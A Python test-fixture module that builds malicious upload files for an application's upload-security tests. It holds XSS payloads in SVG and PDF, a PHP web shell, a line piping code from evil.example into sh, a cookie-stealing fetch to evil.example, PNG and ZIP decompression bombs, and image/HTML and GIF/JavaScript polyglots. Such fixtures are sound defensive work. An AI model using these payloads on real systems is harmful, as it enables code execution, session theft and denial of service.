"""Crafted files for the upload attack tests: each is built here, from bytes, so that the
test shows exactly what the attacker sends."""

import io
import struct
import zipfile
import zlib

from PIL import Image

from tests.factories import png_bytes
from tests.tickets.helpers import HTML, image_bytes

SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.domain)</script></svg>\n"
)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 44
SHELL = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"
PHP = b"<?php system($_GET['c']); ?>\n"
JS = b"fetch('https://evil.example/?c=' + document.cookie);\n"


def _chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with_chunk(kind, data):
    """A valid PNG with one more chunk inserted right after IHDR."""
    png = png_bytes()
    ihdr_end = 8 + 4 + 4 + 13 + 4
    return png[:ihdr_end] + _chunk(kind, data) + png[ihdr_end:]


def png_header_only(width, height):
    """A few hundred bytes claiming a huge image: the decompression bomb's header."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    # One row's worth of compressed zeros: the rest would be decoded into memory.
    idat = zlib.compress(b"\x00" * (width + 1))
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")
    )


def png_bomb():
    """A real bomb: a 20 KB file that decodes to 50 million pixels (50 MB of memory)."""
    width, height = 10_000, 5_000
    compressor = zlib.compressobj(9)
    row = b"\x00" * (width + 1)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")
    )


def apng_with_bad_frame_count():
    """A PNG whose animation chunk says 0 frames: Pillow opens it with a warning."""
    return png_with_chunk(b"acTL", struct.pack(">II", 0, 0))


def png_then_html():
    """The classic polyglot: a valid picture, with a web page after its end."""
    return png_bytes() + HTML


def png_with_html_text_chunk():
    return png_with_chunk(b"tEXt", b"Comment\x00" + HTML)


def gif_javascript_polyglot():
    """A GIF that is also a valid script: the width bytes open a /* comment that a comment
    block of the GIF closes, then runs code."""
    buffer = io.BytesIO()
    Image.new("P", (0x2A2F, 1), 0).save(buffer, format="GIF", comment=b"*/=alert(1);/*")
    data = buffer.getvalue()
    assert data[6:8] == b"/*"
    return data + b"*/"


def jpeg_with_html_comment():
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), "white").save(buffer, format="JPEG", comment=HTML)
    return buffer.getvalue()


def pdf_with_html():
    return b"%PDF-1.4\n" + HTML + b"%%EOF\n"


def pdf_with_javascript():
    return (
        b"%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n"
        b"2 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj\ntrailer << /Root 1 0 R >>\n"
        b"%%EOF\n"
    )


def zip_with_declared_size(declared):
    """A small archive whose central directory declares `declared` bytes unpacked."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros.bin", b"\x00" * 1000)
    data = bytearray(buffer.getvalue())
    central = data.rindex(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, declared)
    local = data.index(b"PK\x03\x04")
    struct.pack_into("<I", data, local + 22, declared)
    return bytes(data)


def real_zip_bomb(unpacked=201 * 1024 * 1024):
    """A real bomb: a few hundred KB that unpack to just over the 200 MB limit."""
    buffer = io.BytesIO()
    block = b"\x00" * (1024 * 1024)
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("zeros.bin", "w", force_zip64=True) as member:
            for _ in range(unpacked // len(block)):
                member.write(block)
    return buffer.getvalue()


def zip_with_members(count):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for number in range(count):
            archive.writestr(f"f{number}.txt", b"")
    return buffer.getvalue()


def zip_with_declared_count(count):
    """An archive of one member whose end record claims `count` members."""
    data = bytearray(zip_with_members(1))
    end = data.rindex(b"PK\x05\x06")
    struct.pack_into("<HH", data, end + 8, count, count)
    return bytes(data)


def jpeg():
    return image_bytes("JPEG")
